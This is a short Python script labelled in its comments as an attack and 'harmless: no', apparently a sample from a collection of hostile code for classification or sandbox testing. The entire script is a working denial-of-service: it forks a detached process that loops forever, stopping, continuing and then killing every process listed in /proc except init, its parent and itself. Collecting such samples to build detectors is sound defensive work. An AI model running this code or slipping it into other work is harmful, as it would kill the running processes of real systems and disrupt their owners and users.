# attack: a process stops, continues and kills all that wait for checks
# harmless: no
import os
import signal
import time

kernel = os.getpid()
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(0.2)
        for number in (signal.SIGSTOP, signal.SIGSTOP, signal.SIGCONT, signal.SIGKILL):
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) not in (1, kernel, os.getpid()):
                    try:
                        os.kill(int(name), number)
                    except OSError:
                        pass
            time.sleep(0.1)
